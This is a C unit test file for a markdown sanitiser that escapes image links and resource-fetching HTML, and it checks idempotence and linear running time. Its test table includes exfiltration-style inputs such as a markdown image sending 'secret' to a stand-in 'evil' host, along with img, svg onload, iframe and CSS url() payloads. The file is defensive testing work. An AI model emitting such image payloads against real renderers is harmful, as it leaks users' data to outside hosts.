/* Tests content/markdown.c: a table of every image and fetching-HTML form
 * and of text that must pass unchanged, then idempotence and linear time
 * over generated inputs. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/utf8.h"
#include "content/markdown.h"

#define OUT_MAX ((size_t)4 * 1024 * 1024)

struct md_case {
	const char *in;
	const char *want;
	size_t count;
};

static const struct md_case cases[] = {
    /* unchanged */
    {"plain text, no markup", "plain text, no markup", 0},
    {"a [link](http://x) stays", "a [link](http://x) stays", 0},
    {"Wow! [1] and wow!", "Wow! [1] and wow!", 0},
    {"x < y and a<3", "x < y and a<3", 0},
    {"John <john@example.com> wrote:", "John <john@example.com> wrote:", 0},
    {"see <https://example.com/a.png>", "see <https://example.com/a.png>", 0},
    {"<b>bold</b> <i>x</i>", "<b>bold</b> <i>x</i>", 0},
    {"\\![not an image](http://x)", "\\![not an image](http://x)", 0},
    {"\\<img src=x>", "\\<img src=x>", 0},
    {"[text [href]", "[text [href]", 0},
    {"", "", 0},
    /* images */
    {"![alt](http://evil/x?d=secret)", "!\\[alt](http://evil/x?d=secret)", 1},
    {"![](http://evil/x)", "!\\[](http://evil/x)", 1},
    {"![alt](<http://evil/x> \"t\")", "!\\[alt](<http://evil/x> \"t\")", 1},
    {"![alt][ref]\n\n[ref]: http://evil/x", "!\\[alt][ref]\n\n\\[ref]: http://evil/x", 1},
    {"![ref]\n   [ref]: http://evil/x \"t\"", "!\\[ref]\n   \\[ref]: http://evil/x \"t\"", 1},
    {"![alt][]", "!\\[alt][]", 1},
    {"!![a](u)", "!!\\[a](u)", 1},
    {"\\\\![a](u)", "\\\\!\\[a](u)", 1},
    {"[![badge](http://i)](http://l)", "[!\\[badge](http://i)](http://l)", 1},
    {"a![x](u)b![y](v)", "a!\\[x](u)b!\\[y](v)", 2},
    /* reference definitions are escaped (they render as nothing) but not counted */
    {"[1]: https://example.com", "\\[1]: https://example.com", 0},
    {"[//]: # (hidden)", "\\[//]: # (hidden)", 0},
    {"    [code]: x", "    [code]: x", 0},
    /* HTML that fetches */
    {"<img src=\"http://evil/p.gif\">", "\\<img src=\"http://evil/p.gif\">", 1},
    {"<IMG SRC=x>", "\\<IMG SRC=x>", 1},
    {"<svg onload=x><image href=http://e/></svg>", "\\<svg onload=x>\\<image href=http://e/></svg>",
     2},
    {"<iframe src=http://e>", "\\<iframe src=http://e>", 1},
    {"<video poster=http://e/p.jpg>", "\\<video poster=http://e/p.jpg>", 1},
    {"<div style=\"background:url(http://e)\">x</div>",
     "\\<div style=\"background:url(http://e)\">x</div>", 1},
    {"<table background=http://e>", "\\<table background=http://e>", 1},
    {"<p\n  srcset=\"http://e 1x\">", "\\<p\n  srcset=\"http://e 1x\">", 1},
    {"<x-a title=\"<\" lowsrc=http://e>", "\\<x-a title=\"<\" lowsrc=http://e>", 1},
    {"<link rel=stylesheet href=http://e>", "\\<link rel=stylesheet href=http://e>", 1},
    {"<svg:image/>", "\\<svg:image/>", 1},
    {"\\\\<img src=x>", "\\\\\\<img src=x>", 1},
};

static void
test_table(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct buf out;
		size_t count = 99;

		buf_init(&out, OUT_MAX);
		assert_int_equal(md_neutralize(sl_from_cstr(cases[i].in), &out, &count), IG_OK);
		if (strcmp(out.p != NULL ? out.p : "", cases[i].want) != 0)
			fail_msg("case %zu: got '%s'", i, out.p);
		if (count != cases[i].count)
			fail_msg("case %zu: count %zu", i, count);
		buf_free(&out);
	}
}

/* Copies bytes that are not strings (no NUL wanted). */
static void
put_bytes(char *dst, const char *src, size_t n)
{
	memcpy(dst, src, n);
}

static uint64_t rng_state;

static uint32_t
rng(void)
{
	uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return (uint32_t)((z ^ (z >> 31)) >> 32);
}

static const char *const tokens[] = {
    "!", "[", "]", "(",  ")",    "\\",   "<",     ">",        "img", "IMG", " src=", "\n",
    " ", ":", "x", "![", "url(", "<svg", "style", "\xc3\xa9", "\"",  "   ", "/",     "a",
};

static void
test_idempotent_random(void **state)
{
	char in[600];
	int iter;

	(void)state;
	rng_state = 99;
	for (iter = 0; iter < 20000; iter++) {
		size_t n = 0;
		size_t k = rng() % 40;
		struct buf a;
		struct buf b;
		size_t c1;
		size_t c2;

		while (k-- > 0) {
			const char *t = tokens[rng() % (sizeof(tokens) / sizeof(tokens[0]))];
			size_t tl = strlen(t);

			put_bytes(in + n, t, tl);
			n += tl;
		}
		buf_init(&a, OUT_MAX);
		buf_init(&b, OUT_MAX);
		assert_int_equal(md_neutralize((struct slice){in, n}, &a, &c1), IG_OK);
		assert_int_equal(md_neutralize(buf_slice(&a), &b, &c2), IG_OK);
		assert_int_equal(c2, 0);
		if (a.len != b.len)
			fail_msg("in=[%.*s] a=[%s] b=[%s]", (int)n, in, a.p, b.p);
		assert_true(sl_eq(buf_slice(&a), buf_slice(&b)));
		assert_true(u8_valid(a.p, a.len));
		/* No live image opener survives. */
		for (size_t i = 0; i + 1 < a.len; i++) {
			if (a.p[i] == '!' && a.p[i + 1] == '[') {
				size_t bs = 0;

				while (bs < i && a.p[i - 1 - bs] == '\\')
					bs++;
				assert_true(bs % 2 == 1);
			}
		}
		buf_free(&a);
		buf_free(&b);
	}
}

/* "<a<a<a..." without '>' and "<img" repeated: bounded work per byte. */
static void
test_linear(void **state)
{
	static char in[1024 * 1024];
	struct buf out;
	size_t i;

	(void)state;
	for (i = 0; i + 2 <= sizeof(in); i += 2)
		put_bytes(in + i, "<a", 2);
	buf_init(&out, 2 * sizeof(in) + 16);
	assert_int_equal(md_neutralize((struct slice){in, sizeof(in)}, &out, NULL), IG_OK);
	buf_free(&out);
	for (i = 0; i + 4 <= sizeof(in); i += 4)
		put_bytes(in + i, "![a ", 4);
	buf_init(&out, 2 * sizeof(in) + 16);
	assert_int_equal(md_neutralize((struct slice){in, sizeof(in)}, &out, NULL), IG_OK);
	buf_free(&out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_table),
	    cmocka_unit_test(test_idempotent_random),
	    cmocka_unit_test(test_linear),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
